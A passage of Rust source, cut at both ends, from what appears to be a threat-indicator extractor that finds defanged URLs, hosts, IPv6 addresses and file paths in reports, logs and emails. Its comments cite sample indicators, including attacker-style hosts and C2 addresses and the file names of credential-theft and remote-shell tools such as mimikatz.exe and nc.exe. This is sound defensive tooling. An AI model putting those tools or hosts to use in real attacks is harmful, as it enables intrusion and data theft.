        && find_seq(seg, b"://")
            .is_some_and(|p| !seg.get(p + 3..).unwrap_or_default().contains(&b'/'));
    // A URL cut at the end of its path or inside its query (`…/assets/`,
    // `…/AllItems.aspx?`, `…?id=1&`).
    let slash = matches!(seg.last(), Some(b'/' | b'?' | b'&')) && holds(b"://") && seg.len() > 8;
    // `2a0d:5600:24:` / `af1::3c`: an IPv6 address cut after a colon
    // (checked below: the next line goes on in hex and colons).
    let v6 = seg.last() == Some(&b':')
        && seg.iter().filter(|&&b| b == b':').count() >= 2
        && seg.iter().all(|b| b.is_ascii_hexdigit() || *b == b':');
    if !(marker || hyphen || www || slash || host_dot || v6) {
        return None;
    }
    // In a quoted reply (`> …`), the next line's quote marks go before it.
    let line = bytes.get(..start)?.iter().rposition(|&b| b == b'\n').map_or(0, |p| p + 1);
    let quoted = bytes.get(line..start)?.iter().find(|&&b| b != b' ' && b != b'\t') == Some(&b'>');
    let mut cs = nl;
    while bytes.get(cs).is_some_and(|b| matches!(b, b' ' | b'\t') || quoted && *b == b'>')
        && cs - nl < 40
    {
        cs += 1;
    }
    // An indented list of links (`  hxxps://a.example/dl/`), then a line
    // that starts further left: the list ended; a cut line goes on at the
    // indent of the list, or at the left margin of a paragraph.
    let indent = bytes
        .get(line..start)
        .map_or(0, |r| r.iter().take_while(|&&b| b == b' ' || b == b'\t').count());
    if slash && indent > 0 && line + indent == start && cs - nl < indent {
        return None;
    }
    let mut ce = cs;
    while bytes.get(ce).is_some_and(|&b| b < 0x80 && !is_sep(b)) && ce - cs < MAX_PIECE {
        ce += 1;
    }
    let cont = bytes.get(cs..ce)?;
    if !cont.first().is_some_and(u8::is_ascii_alphanumeric) {
        return None;
    }
    // A new link is the next item, whatever the line before ends in.
    let starts_ci = |p: &[u8]| cont.get(..p.len()).is_some_and(|h| h.eq_ignore_ascii_case(p));
    if starts_ci(b"http")
        || starts_ci(b"hxxp")
        || starts_ci(b"www.")
        || cont.windows(3).any(|w| w == b"://" || w == b"[:]")
    {
        return None;
    }
    if v6 {
        // The rest of the address, up to what ends it in prose.
        let rest = cont.iter().take_while(|b| b.is_ascii_hexdigit() || **b == b':').count();
        return (rest >= 1
            && cont.get(rest).is_none_or(|b| matches!(b, b',' | b'.' | b')' | b';')))
        .then_some(Wrap { cs, ce, after_path: false });
    }
    // After a host's dot: a top-level label and a path (`com/view/…`), not
    // the next sentence (`Now we …`).
    if host_dot && !(marker || www) {
        let label = cont.iter().take_while(|b| b.is_ascii_alphabetic()).count();
        if !(2..=12).contains(&label) || cont.get(label) != Some(&b'/') {
            return None;
        }
    }
    // A query goes on with its `key=value` pairs (a question that ends a
    // line, `…/login?` / `The next day`, does not).
    if matches!(seg.last(), Some(b'?' | b'&')) && !cont.contains(&b'=') {
        return None;
    }
    if slash {
        // `h/t @someone`, `w/o`: a shorthand on the next line, no path.
        if cont.len() <= 4 && cont.iter().all(|b| b.is_ascii_alphabetic() || *b == b'/') {
            return None;
        }
        // A path goes on, with a path's punctuation in it.
        let inner = cont.get(..cont.len() - 1).unwrap_or_default();
        if !inner.iter().any(|b| matches!(b, b'.' | b'?' | b'=' | b'-' | b'_' | b'/' | b'%' | b'&'))
        {
            return None;
        }
        // The next line of a configuration (`KINTONE_API_TOKEN=…` after
        // `BASE_URL=https://…/k/42/`): a name and `=` after a path that
        // ended in `/` (a query goes on with `key=value`, a path does not).
        let name = cont.iter().take_while(|b| b.is_ascii_alphanumeric() || **b == b'_').count();
        if seg.last() == Some(&b'/') && name >= 2 && cont.get(name) == Some(&b'=') {
            return None;
        }
        // The first field of the next record of a log or a table
        // (`2024-04-22,…`, `08:03:40|…`).
        if matches!(bytes.get(ce), Some(b',' | b'\t' | b'|' | b';'))
            || cont.first().is_some_and(u8::is_ascii_digit)
                && cont.contains(&b'-')
                && !cont.contains(&b'.')
        {
            return None;
        }
    }
    Some(Wrap { cs, ce, after_path: slash || hyphen && holds(b"/") })
}

/// Where a link that a `;` cut after `&amp` (at `at`) ends: past each
/// `;` of an escaped `&` and the link's bytes after it, up to the next
/// separator.
fn amp_continuation(text: &str, mut at: usize) -> usize {
    let b = text.as_bytes();
    // `&amp;amp;` (escaped twice, as an Atom feed's HTML content holds a
    // link) goes on too.
    let escaped_amp = |h: &[u8]| h.ends_with(b"&amp") || h.ends_with(b"&amp;amp");
    while b.get(at) == Some(&b';') && b.get(..at).is_some_and(escaped_amp) {
        // Up to a quote or an angle bracket (`…&amp;t=17')"</Data>`: the
        // string and the element end there), without the punctuation that
        // closes prose or a call.
        let run = b
            .get(at + 1..)
            .unwrap_or_default()
            .iter()
            .take_while(|&&c| {
                c < 0x80 && !is_sep(c) && !matches!(c, b'\'' | b'"' | b'`' | b'<' | b'>')
            })
            .count();
        let mut tail = b.get(at + 1..at + 1 + run).unwrap_or_default();
        // `…&amp;v=2&quot;`: the quote's entity ends the link.
        let cut = ending_entity(tail);
        if let Some(k) = cut {
            tail = tail.get(..k).unwrap_or_default();
        }
        let more = tail.len()
            - tail
                .iter()
                .rev()
                .take_while(|c| matches!(c, b'.' | b',' | b')' | b']' | b'!' | b'?'))
                .count();
        if more == 0 {
            break;
        }
        at += 1 + more;
        if cut.is_some() {
            break;
        }
    }
    at
}

/// Where the value at the start of `seg` ends at an `&` or `#` glued to it
/// (`147.45.44.131&lt`, `a.b@proton.me&x`, `evil.com#frag`): the part
/// before it holds a dot or a colon, or is a digest's run of hex. Not
/// where the segment goes on as something else: `Q&A.docx` and `C#` start
/// with no value, a query (`?xt=…&dn=`) or a numeric entity
/// (`&#92;&#92;127.0.0.1&#92;c$`, an escaped path) runs on, and so does a
/// template's `#{arch}`.
fn glued_value_end(seg: &[u8], flags: u16) -> Option<usize> {
    // Without a dot or a colon only a digest can come first: the byte
    // after each length is all to look at.
    let k = if flags & (F_DOT | F_COLON) != 0 {
        memchr::memchr2(b'&', b'#', seg)?
    } else {
        [32, 40, 64, 128].into_iter().find(|&n| matches!(seg.get(n), Some(b'&' | b'#')))?
    };
    if find_seq(seg, b"&#").is_some() || find_seq(seg, b"#{").is_some() {
        return None;
    }
    let head = seg.get(..k)?;
    // `…zip&xl=25912007&fc=1`: a query's `&key=` after it.
    let key_after = |at: usize| {
        let tail = seg.get(at + 1..).unwrap_or_default();
        let n = tail.iter().take_while(|c| c.is_ascii_alphanumeric() || **c == b'_').count();
        n > 0 && tail.get(n) == Some(&b'=')
    };
    if memchr::memchr2(b'?', b'=', head).is_some() || memchr::memchr_iter(b'&', seg).any(key_after)
    {
        return None;
    }
    let hex = matches!(head.len(), 32 | 40 | 64 | 128) && head.iter().all(u8::is_ascii_hexdigit);
    (k > 0 && (hex || memchr::memchr2(b'.', b':', head).is_some())).then_some(k)
}

/// Where the first entity that ends a link in XML or HTML starts in
/// `piece` (a quote, an angle bracket, a no-break space: `&quot;`, `&lt;`,
/// `&#34;`, `&nbsp;`), with its `;` or at the end of `piece` (the scanner
/// cuts pieces at `;`). `&amp;` is a link's own `&`, and `&ltv=2` a
/// query's key.
fn ending_entity(piece: &[u8]) -> Option<usize> {
    const ENDS: &[&[u8]] = &[
        b"&quot", b"&apos", b"&lt", b"&gt", b"&nbsp", b"&#34", b"&#39", b"&#60", b"&#62", b"&#160",
    ];
    let mut from = 0;
    while let Some(k) = find_byte_from(piece, from, b'&') {
        let rest = piece.get(k..).unwrap_or_default();
        if ENDS.iter().any(|e| {
            rest.get(..e.len()).is_some_and(|r| r.eq_ignore_ascii_case(e))
                && matches!(rest.get(e.len()), None | Some(b';'))
        }) {
            return Some(k);
        }
        from = k + 1;
    }
    None
}

/// What a MIME header that names a quoted-printable body holds (its first
/// letter left out, for either case).
const QP_HEADER: &[u8] = b"uoted-printable";

/// Whether the segment `bytes[start..end]` may be a link in a
/// quoted-printable body: it holds `://` and ends in a soft line break (`=`
/// before the line's end) or holds an escaped `=` (`=3D`).
fn qp_link_cue(bytes: &[u8], start: usize, end: usize) -> bool {
    let seg = bytes.get(start..end).unwrap_or_default();
    find_seq(seg, b"://").is_some()
        && (seg.last() == Some(&b'=') && matches!(bytes.get(end), Some(b'\n' | b'\r'))
            || find_ci(seg, b"=3d").is_some())
}

/// Where [`wrapped_continuation`] found the next line going on.
struct Wrap {
    /// Where the continuation starts.
    cs: usize,
    /// Where it ends.
    ce: usize,
    /// The cut fell in a path (`…/a-`, `…/v2/`): a line that is an
    /// indicator of its own (other than a file name) is then the next item
    /// of a list (`http://a.example/` / `b.example`). A host cut after `-`
    /// goes on with the rest of its name, which may read as a host of its
    /// own (`marine-claims-` / `portal[.]net`).
    after_path: bool,
}

/// The pieces a segment is read as (at most [`Parts::MAX`]; past that, the
/// last one runs to the end): the segment, the two halves of a Markdown
/// link, the parts between JSON escapes.
#[derive(Default)]
struct Parts {
    ranges: [(usize, usize); Parts::MAX],
    len: usize,
}

impl Parts {
    const MAX: usize = 16;

    fn push(&mut self, r: (usize, usize)) {
        if let Some(slot) = self.ranges.get_mut(self.len) {
            *slot = r;
            self.len += 1;
        } else if let Some(last) = self.ranges.last_mut() {
            last.1 = r.1;
        }
    }

    fn as_slice(&self) -> &[(usize, usize)] {
        self.ranges.get(..self.len).unwrap_or_default()
    }

    /// Each part cut at the JSON `\uXXXX` escapes in it.
    fn split_at_escapes(&self, bytes: &[u8]) -> Parts {
        let mut out = Parts::default();
        for &(mut at, end) in self.as_slice() {
            while let Some((k, len)) = bytes.get(at..end).and_then(json_escape_in) {
                // Escapes side by side leave nothing between them.
                if k > 0 {
                    out.push((at, at + k));
                }
                at += k + len;
            }
            if end > at {
                out.push((at, end));
            }
        }
        out
    }
}

/// Whether the host of URL `s`, when written as numbers, is a dotted quad
/// or one number (not `10.10.` nor `192.168.1`); true for a host of names.
fn numeric_host_as_written(s: &str) -> bool {
    let b = s.as_bytes();
    let Some(at) = b.windows(3).position(|w| w == b"://") else { return true };
    let rest = b.get(at + 3..).unwrap_or_default();
    let auth = rest.split(|&c| matches!(c, b'/' | b'?' | b'#')).next().unwrap_or_default();
    let host = auth.rsplit(|&c| c == b'@').next().unwrap_or_default();
    let host = match host.iter().rposition(|&c| c == b':') {
        Some(p) => host.get(..p).unwrap_or_default(),
        None => host,
    };
    if !host.iter().all(|c| c.is_ascii_digit() || *c == b'.') || !host.contains(&b'.') {
        return true;
    }
    !host.ends_with(b".") && host.split(|&c| c == b'.').count() == 4
}

/// Whether `b` is bytes written in hex, two digits each between colons
/// (`4f:3a:09:91:c2:7e:55:10`): a serial number or a key, which an IPv6
/// address (whose groups drop leading zeros) is not written as.
fn byte_pairs(b: &[u8]) -> bool {
    b.len() >= 23 && b.split(|&c| c == b':').all(|g| g.len() == 2)
}

/// Where the first string escape in `b` starts, and its length: a
/// `\uXXXX` escape (four hex digits) anywhere, or a line break or tab
/// (`\n`, `\r`, `\t`) when `b` is text a JSON export or a script's
/// string escaped, not a Windows path (see [`line_escapes_apply`]). A
/// backslash that another escapes (`\\u0041` in JSON, or the `:\\` of a
/// defanged scheme before a host) starts none.
fn json_escape_in(b: &[u8]) -> Option<(usize, usize)> {
    let mut from = 0;
    let mut lines = None;
    while let Some(k) = b.get(from..)?.iter().position(|&c| c == b'\\') {
        let at = from + k;
        let escape = b.get(at + 1) == Some(&b'u')
            && b.get(at + 2..at + 6).is_some_and(|h| h.iter().all(u8::is_ascii_hexdigit));
        // `\\` is one escaped backslash: skip both.
        if b.get(at + 1) == Some(&b'\\') {
            from = at + 2;
            continue;
        }
        if escape {
            return Some((at, 6));
        }
        if matches!(b.get(at + 1), Some(b'n' | b'r' | b't'))
            && *lines.get_or_insert_with(|| line_escapes_apply(b))
        {
            return Some((at, 2));
        }
        from = at + 1;
    }
    None
}

/// Whether `\n`, `\r` and `\t` in segment `b` are escapes (`"c2
/// 45.142.214.88\nnext"`, `…/x.py\n`) rather than a path's separators
/// (`C:\new\tools`, `Temp\nc.exe`): no drive or UNC path, every backslash
/// an escape JSON knows, and before the first one what an indicator
/// holds (see below), which a folder's name does not.
fn line_escapes_apply(b: &[u8]) -> bool {
    if drive_or_unc_path(b) {
        return false;
    }
    let mut first = None;
    let mut i = 0;
    while let Some(k) = b.get(i..).and_then(|t| t.iter().position(|&c| c == b'\\')) {
        let at = i + k;
        match b.get(at + 1) {
            Some(b'n' | b'r' | b't') => {
                first.get_or_insert(at);
                i = at + 2;
            }
            Some(b'\\' | b'"' | b'/' | b'u') => i = at + 2,
            _ => return false,
        }
    }
    let Some(head) = first.and_then(|f| b.get(..f)) else { return false };
    // A Unix path or a URL (whose separators are slashes), a labelled
    // value, an address, a dot inside a name (`x.py`, `45.142`), or a
    // digest (`"md5: 881999c8…8b01\n"`, a notebook's output line); not a
    // folder (`$env:Temp\test10.lnk`, `.\rclone.exe`, `%TEMP%\new`).
    let head = head.strip_prefix(b"'").unwrap_or(head);
    let last = head.rsplit(|&c| c == b':').next().unwrap_or_default();
    matches!(last.len(), 32 | 40 | 64 | 128) && last.iter().all(u8::is_ascii_hexdigit)
        || head.first() == Some(&b'/')
        || head.windows(3).any(|w| w == b"://")
        || head.iter().any(|c| matches!(c, b'=' | b'@'))
        || head.windows(2).skip(1).any(|w| matches!(w, [b'.', c] if c.is_ascii_alphanumeric()))
}

/// Whether segment `b` holds a Windows drive or UNC path (`C:\new`,
/// `\\host\share`), whose backslashes are separators, not escapes.
fn drive_or_unc_path(b: &[u8]) -> bool {
    b.first() == Some(&b'\\') || b.windows(2).any(|w| w == b":\\")
}

/// ASCII bytes that end a segment.
fn is_sep(b: u8) -> bool {
    class_of(b) & SEP != 0
}

/// Non-ASCII characters that belong to a segment: letters and digits of
/// any script (IDN labels), full-width dots, zero-width characters and
/// the soft hyphen (which refang drops), and the Unicode hyphens.
fn is_segment_char(c: char) -> bool {
    // Superscript and subscript digits are footnote marks
    // (`45.153.160.0/24).⁷`), no part of an indicator.
    (c.is_alphanumeric()
        && !matches!(c, '\u{00B2}' | '\u{00B3}' | '\u{00B9}' | '\u{2070}'..='\u{209F}'))
        || matches!(
            c,
            '\u{3002}'
                | '\u{FF0D}'
                | '\u{FF0E}'
                | '\u{FF61}'
                | '\u{FF20}'
                | '\u{FF1A}'
                | '\u{200B}'
                | '\u{200C}'
                | '\u{200D}'
                | '\u{2060}'
                | '\u{FEFF}'
                | '\u{00AD}'
                | '\u{2010}'
                | '\u{2011}'
                // Full-width square brackets: `45［.］61［.］136［.］14`, as
                // Japanese advisories defang (folded to `[.]`).
                | '\u{FF3B}'
                | '\u{FF3D}'
        )
}

/// Han, kana, Hangul, CJK punctuation and full-width forms: the scripts
/// whose text runs into an indicator without a space.
fn is_cjk(c: char) -> bool {
    matches!(c,
        '\u{1100}'..='\u{11FF}'
        | '\u{2E80}'..='\u{9FFF}'
        | '\u{AC00}'..='\u{D7AF}'
        | '\u{F900}'..='\u{FAFF}'
        | '\u{FE30}'..='\u{FE4F}'
        | '\u{FF00}'..='\u{FFEF}'
        | '\u{20000}'..='\u{2FFFF}')
}

/// The ASCII character `c` stands for: itself, the ASCII of a full-width
/// form (`！`–`～`, which NFKC folds to ASCII), or `-` for the Unicode
/// hyphens U+2010 and U+2011.
fn ascii_fold(c: char) -> Option<char> {
    match c {
        '\0'..='\u{7F}' => Some(c),
        '\u{FF01}'..='\u{FF5E}' => char::from_u32(u32::from(c) - 0xFEE0),
        '\u{2010}' | '\u{2011}' => Some('-'),
        _ => None,
    }
}

/// The span of a URL written in full-width forms around the segment
/// `text[start..end]`, when `：／／` (or `:／／`) and a full-width scheme come
/// right before it: from the scheme to the end of the run of full-width
/// characters a URL can hold (not the full-width brackets and quotes that
/// wrap it).
fn full_width_url_around(text: &str, start: usize, end: usize) -> Option<(usize, usize)> {
    let before = text.get(..start)?;
    let sep = ["：／／", ":／／"].into_iter().find(|s| before.ends_with(s))?;
    let scheme_end = start - sep.len();
    let scheme_start = text
        .get(..scheme_end)?
        .char_indices()
        .rev()
        .take_while(|&(_, c)| {
            c.is_ascii_alphabetic() || ('ａ'..='ｚ').contains(&c) || ('Ａ'..='Ｚ').contains(&c)
        })
        .last()
        .map(|(i, _)| i)?;
    if text.get(scheme_start..scheme_end)?.is_ascii() {
        return None;
    }
    let url_char = |c: char| match ascii_fold(c) {
        Some(a) if !c.is_ascii() => a.is_ascii_alphanumeric() || "-._~:/?#@!$&*+,;=%".contains(a),
        _ => false,
    };
    let tail = text.get(end..)?;
    let more: usize = tail
        .chars()
        .take_while(|&c| url_char(c) || c.is_ascii_alphanumeric())
        .map(char::len_utf8)
        .sum();
    Some((scheme_start, end + more))
}

/// ASCII or a character that folds to it: one script for [`script_runs`].
fn is_latin_like(c: char) -> bool {
    ascii_fold(c).is_some()
}

fn is_dotlike(c: char) -> bool {
    matches!(c, '.' | '\u{3002}' | '\u{FF0E}' | '\u{FF61}' | '[' | ']' | '(' | ')')
}

/// Splits a mixed-script segment at ASCII/non-ASCII boundaries that are not
/// next to a dot, so that `C2はevil.example.comに` yields the domain alone
/// while `例え.jp` stays whole.
fn script_runs(text: &str, start: usize, end: usize) -> Vec<(usize, usize)> {
    let mut runs = Vec::new();
    let seg = text.get(start..end).unwrap_or_default();
    let mut run_start = start;
    let mut prev: Option<char> = None;
    // A Japanese path segment of a URL runs to here (see below).
    let mut path_until = start;
    // The last character was a hyphen inside an IDN label (see below).
    let mut hyphen_in_label = false;
    let mut chars = seg.char_indices().peekable();
    while let Some((off, c)) = chars.next() {
        let pos = start + off;
        // A full-width full stop after ASCII and before Japanese (or at the
        // end) ends a sentence: `10.20.4.17。次に` is an address and a
        // sentence, not one piece.
        if matches!(c, '\u{3002}' | '\u{FF0E}' | '\u{FF61}') && prev.is_some_and(|p| p.is_ascii()) {
            let next = chars.peek().map(|&(_, n)| n);
            if next.is_none_or(|n| !n.is_ascii() && n.is_alphanumeric()) {
                runs.push((run_start, pos));
                run_start = pos + c.len_utf8();
                prev = None;
                continue;
            }
        }
        // An ideographic full stop after Japanese and before a capital
        // ends a sentence the next one starts in English:
        // `対象外。Microsoft Office` is no name under `.microsoft`.
        if c == '\u{3002}'
            && prev.is_some_and(|p| !p.is_ascii())
            && chars.peek().is_some_and(|&(_, n)| n.is_ascii_uppercase())
        {
            runs.push((run_start, pos));
            run_start = pos + c.len_utf8();
            prev = None;
            continue;
        }
        // A full-width `＠` inside an ASCII address and a full-width `：`
        // before `//` (`hxxp：//`) belong to the indicator; anywhere else
        // they are punctuation that ends a run (`C2サーバ：evil.com`).
        if matches!(c, '\u{FF20}' | '\u{FF1A}') {
            let rest = seg.get(off + c.len_utf8()..).unwrap_or_default();
            let after_ascii = prev.is_some_and(|p| p.is_ascii_alphanumeric());
            // An address typed with the input method on is full-width on
            // both sides (`ｆｇｔ．ａｄｍｉｎ＠ｐｒｏｔｏｎ．ｍｅ`).
            let alnum = |ch: char| ascii_fold(ch).is_some_and(|a| a.is_ascii_alphanumeric());
            let inside = if c == '\u{FF20}' {
                prev.is_some_and(alnum) && rest.starts_with(alnum)
            } else {
                after_ascii && rest.starts_with("//")
            };
            if !inside {
                runs.push((run_start, pos));
                run_start = pos + c.len_utf8();
                prev = None;
                continue;
            }
            prev = Some('.');
            continue;
        }
        if let Some(p) = prev {
            // A URL's host may be written in Japanese: the run goes on
            // after `://` (`https://アカウント保護.net/signin`).
            let after_scheme = p == '/'
                && !c.is_ascii()
                && seg.get(..off).is_some_and(|before| before.ends_with("://"));
            // So may a path segment, when a `/`, a query or a file
            // extension follows it (`https://evil.com/資料/a.zip`,
            // `…/請求書.zip`); a Japanese word after a URL
            // (`https://evil.com/へ接続`) still ends it.
            if p == '/' && !c.is_ascii() && seg.get(..off).is_some_and(|b| b.contains("://")) {
                let rest = seg.get(off..).unwrap_or_default();
                let run: usize = rest
                    .chars()
                    .take_while(|&ch| !ch.is_ascii() && ch.is_alphanumeric())
                    .map(char::len_utf8)
                    .sum();
                // Or a file name in Japanese (`…/2024/請求書.zip`).
                let after = rest.get(run..).unwrap_or_default().as_bytes();
                let goes_on = match after {
                    [b'/' | b'?', ..] => true,
                    [b'.', c, ..] => c.is_ascii_alphanumeric(),
                    _ => false,
                };
                if run > 0 && goes_on {
                    path_until = pos + run;
                }
            }
            let in_path = pos <= path_until;
            // A hyphen between two letters of another script is inside an
            // IDN label (`ケイディ-サポート.com`): no cut on either side.
            let letter = |x: char| !x.is_ascii() && x.is_alphanumeric();
            let label_hyphen =
                (c == '-' && letter(p) && chars.peek().is_some_and(|&(_, n)| letter(n)))
                    || (p == '-' && hyphen_in_label);
            hyphen_in_label = c == '-' && label_hyphen;
            // Only Japanese (and other CJK) text cuts an ASCII run: a Latin
            // or Cyrillic letter is part of an IDN label (`bücher-konto.de`,
            // `microsоft.com` with a Cyrillic `о`).
            // Full-width forms count with ASCII (`ａｂｃ．ｃｏｍに接続`).
            let boundary = is_latin_like(p) != is_latin_like(c)
                && (is_cjk(p) || is_cjk(c))
                && !is_dotlike(p)
                && !is_dotlike(c)
                && !after_scheme
                && !in_path
                && !label_hyphen;
            if boundary {
                runs.push((run_start, pos));
                run_start = pos;
            }
        }
        prev = Some(c);
    }
    runs.push((run_start, end));
    runs
}

/// Trims punctuation that wraps or ends a piece in prose; keeps a closing
/// bracket that balances one inside (a URL's `(…)`, a `[.]`).
// Always inlined: the quick check is a few instructions, the call to it
// was a tenth of its cost.
#[inline(always)]
fn trim(text: &str, start: usize, end: usize) -> (usize, usize) {
    let b = text.as_bytes();
    // Most pieces neither start nor end with a byte that the steps below
    // look at (`#1`, `/code`, `x64/mimikatz.exe`): nothing to trim.
    if end > start
        && b.get(start).is_some_and(|c| {
            !matches!(c, b'(' | b'[' | b'{' | b'\'' | b'*' | b'_' | b'=' | b'.' | b'+' | b'\\')
        })
        && b.get(end - 1).is_some_and(|c| {
            !matches!(
                c,
                b'.' | b':'
                    | b'+'
                    | b'!'
                    | b'?'
                    | b'\''
                    | b'*'
                    | b'_'
                    | b'='
                    | b')'
                    | b']'
                    | b'}'
                    | b'('
                    | b'['
                    | b'{'
            )
        })
        // A possessive `'s` (see `trim_ends`).
        && !(end >= start + 3 && b.get(end - 2) == Some(&b'\''))
    {
        return (start, end);
    }
    trim_ends(text, start, end)
}

/// Bytes without which no kind is possible: `piece` calls a piece without
/// them a plain word.
const MAY_HOLD: u16 =
    F_DOT | F_BRACKET | F_NONASCII | F_COLON | F_AT | F_SLASH | F_BACKSLASH | F_DIGIT;

/// What every kind that holds a digit also needs: a letter (ids, digests),
/// `=` (a labelled value) or one of [`MAY_HOLD`]'s other bytes.
const DIGITS_NEED: u16 = MAY_HOLD & !F_DIGIT | F_ALPHA | F_EQ;

/// Whether `piece` must find nothing in the ASCII segment `seg`, whose
/// byte flags are `flags`, for one of three cheap reasons:
/// - brackets alone (`[Valid`, `#{cred_file}`, `(hashes`) mark something
///   only as a spelled-out dot (`[dot]`, `(dot)`); without one `piece`
///   calls the segment a plain word;
/// - a single `/` among letters and unmarked punctuation (`/code`, `/f`,
///   `N/A`, `and/or`, about 3,000 pieces on the dev corpus): of the kinds
///   a `/` alone allows, a path needs two and the others a digit;
/// - without the punctuation that trimming always drops (`#9:`,
///   `Platforms:**`, `**auto_generated_guid:**`), the segment lacks
///   [`MAY_HOLD`] or [`DIGITS_NEED`] bytes.
#[inline(always)]
fn holds_no_kind(seg: &[u8], flags: u16) -> bool {
    if flags & MAY_HOLD == F_BRACKET && !has_spelled_dot(seg) {
        return true;
    }
    if flags & MAY_HOLD == F_SLASH && count_byte(seg, b'/') == 1 {
        return true;
    }
    if !seg.last().is_some_and(|&b| matches!(b, b':' | b'*' | b'.' | b'_')) {
        return false;
    }
    let core = trimmed_core(seg);
    if core.len() == seg.len() {
        return false;
    }
    let f = core.iter().fold(0u16, |acc, &b| acc | flags_of(b));
    f & MAY_HOLD == 0 || f & DIGITS_NEED == 0
}

/// `b` without the wrapping and closing punctuation that [`trim_ends`]
/// drops whatever the piece holds (not brackets, which it may keep): a
/// part of what `trim` leaves.
fn trimmed_core(b: &[u8]) -> &[u8] {
    let start = b.iter().position(|c| !matches!(c, b'*' | b'_' | b'=' | b'\'' | b'+'));
    let end = b
        .iter()
        .rposition(|c| !matches!(c, b'.' | b':' | b'!' | b'?' | b'\'' | b'*' | b'_' | b'='));
    match (start, end) {
        (Some(s), Some(e)) if s <= e => b.get(s..=e).unwrap_or_default(),
        _ => &[],
    }
}

/// [`trim`] past its quick check.
#[inline(never)]
fn trim_ends(text: &str, mut start: usize, mut end: usize) -> (usize, usize) {
    let b = text.as_bytes();
    // `+`: AsciiDoc's passthrough marks (`` `++evil[.]example++` ``), which
    // IoC lists use to keep defanged names as written. A piece is wrapped
    // in them when it starts with one, or when an earlier trim took them
    // off (a path extended past its first word is trimmed again).
    let mut wrapped = b.get(start.wrapping_sub(1)) == Some(&b'+');
    // `\texttt{45.95.169.105}`, `\url{http://…}\footnote{…}`,
    // `\href{http://…}{\texttt{…}}`: a LaTeX command's argument, which ends
    // at its closing brace.
    if let Some(k) = latex_command_len(b.get(start..end).unwrap_or_default()) {
        start += k;
        let arg = b.get(start..end).unwrap_or_default();
        if let Some(close) = arg.iter().position(|&c| c == b'}') {
            end = start + close;
        }
    }
    while start < end
        && matches!(b.get(start), Some(b'(' | b'[' | b'{' | b'\'' | b'*' | b'_' | b'=' | b'+'))
    {
        wrapped |= b.get(start) == Some(&b'+');
        // `[.]` at the start is not wrapping punctuation, nor the bracket
        // of an IPv6 address with a port (`[2001:db8::7]:443`).
        if b.get(start) == Some(&b'[')
            && (b.get(start + 1) == Some(&b'.')
                || bracketed_ipv6(b.get(start..end).unwrap_or_default()))
        {
            break;
        }
        start += 1;
    }
    // A leading dot before a name (`.evil-cdn.com` in a rule that matches
    // subdomains) is not part of it; `..\\path` and `./x` are.
    if b.get(start) == Some(&b'.')
        && b.get(start + 1).is_some_and(u8::is_ascii_alphanumeric)
        && !b.get(start..end).unwrap_or_default().iter().any(|&c| c == b'/' || c == b'\\')
    {
        start += 1;
    }
    // A Windows name may end in `+` (`C:\Program Files\Notepad++`), unless
    // `+` opened the piece too; no other kind does. Looked for only at a
    // `+` (the search cost a tenth of the trimming): the bytes trimmed
    // before it are no `\`, so the piece left holds the same ones.
    let windows = |piece: &[u8]| !wrapped && find_byte_from(piece, 0, b'\\').is_some();
    while let Some(&last) = b.get(end.wrapping_sub(1)).filter(|_| end > start) {
        let piece = b.get(start..end).unwrap_or_default();
        let drop = match last {
            b'.' | b':' | b'!' | b'?' | b'\'' | b'*' | b'_' => true,
            // Base64 padding or an empty value ends a URL's query
            // (`?u=ZmluYW5jZQ==`, `?emp=`); elsewhere `=` is markup.
            b'=' => find_byte_from(piece, 0, b'?').is_none(),
            b'+' => !windows(piece),
            b')' => unbalanced(piece, b'(', b')'),
            // A citation mark after a value (`…1b38.[3]`, a wiki's
            // footnote): all of it goes; not in a Windows path, where
            // `%COMPUTERNAME%[1]` names a file.
            b']' => match citation_len(piece).filter(|_| !windows(piece)) {
                Some(k) => {
                    end -= k - 1;
                    true
                }
                None => unbalanced(piece, b'[', b']'),
            },
            b'}' => unbalanced(piece, b'{', b'}'),
            // A possessive after a name: `evil-login.com's certificate`
            // (not in a path, where `Bob's` may be a folder).
            b's' | b'S'
                if end >= start + 3
                    && b.get(end - 2) == Some(&b'\'')
                    && b.get(end - 3).is_some_and(u8::is_ascii_alphanumeric)
                    && !piece.iter().any(|&c| c == b'/' || c == b'\\') =>
            {
                end -= 1;
                true
            }
            _ => false,
        };
        if !drop {
            break;
        }
        end -= 1;
    }
    // Trailing Japanese punctuation is already a separator; a lone `(` or
    // `[` left at the end is junk.
    while end > start && matches!(b.get(end - 1), Some(b'(' | b'[' | b'{')) {
        end -= 1;
    }
    (start, end)
}

/// A label's length written `(N)` at the start of `b` (one or two
/// decimal digits, as a Windows DNS debug log writes names), and how many
/// bytes say it.
fn decimal_label_length(b: &[u8]) -> Option<(u8, usize)> {
    match b {
        [b'(', d, b')', ..] if d.is_ascii_digit() => Some((d - b'0', 3)),
        [b'(', t, u, b')', ..] if t.is_ascii_digit() && u.is_ascii_digit() => {
            Some(((t - b'0') * 10 + (u - b'0'), 4))
        }
        _ => None,
    }
}

/// The length of a LaTeX command and its opening brace at the start of
/// `b` (`\texttt{`, `\url{`): a backslash, two to twelve letters, `{`.
fn latex_command_len(b: &[u8]) -> Option<usize> {
    if b.first() != Some(&b'\\') {
        return None;
    }
    let letters = b.get(1..)?.iter().take_while(|c| c.is_ascii_alphabetic()).count();
    ((2..=12).contains(&letters) && b.get(1 + letters) == Some(&b'{')).then_some(letters + 2)
}

/// The length of a citation mark (`[3]`, `[12]`) that ends `piece` after
/// something else.
fn citation_len(piece: &[u8]) -> Option<usize> {
    let open = piece.iter().rposition(|&c| c == b'[')?;
    let digits = piece.get(open + 1..piece.len() - 1)?;
    (open > 0 && (1..=3).contains(&digits.len()) && digits.iter().all(u8::is_ascii_digit))
        .then_some(piece.len() - open)
}

/// Whether `d` has two labels (`evil.com`): one dot, counted eight bytes
/// per step, where `labels().count()` ran a `char` searcher per label.
fn has_two_labels(d: &Domain) -> bool {
    count_byte(d.as_str().as_bytes(), b'.') == 1
}

/// Whether the first label of `name` is written in Punycode (`xn--`).
fn is_punycode_label(name: &str) -> bool {
    name.get(..4).is_some_and(|p| p.eq_ignore_ascii_case("xn--"))
}

/// A top-level domain of the new generic kind: one label of three or more
/// letters that is not one of the original generic ones (`.search`,
/// `.host`, `.suzuki`, `.zip`), where a dotted token is more often code
/// than a host.
fn is_new_gtld(suffix: &str) -> bool {
    const LEGACY: &[&str] = &[
        "com", "net", "org", "edu", "gov", "mil", "int", "info", "biz", "name", "pro", "aero",
        "coop", "museum", "mobi", "asia", "tel", "travel", "jobs", "cat", "arpa",
    ];
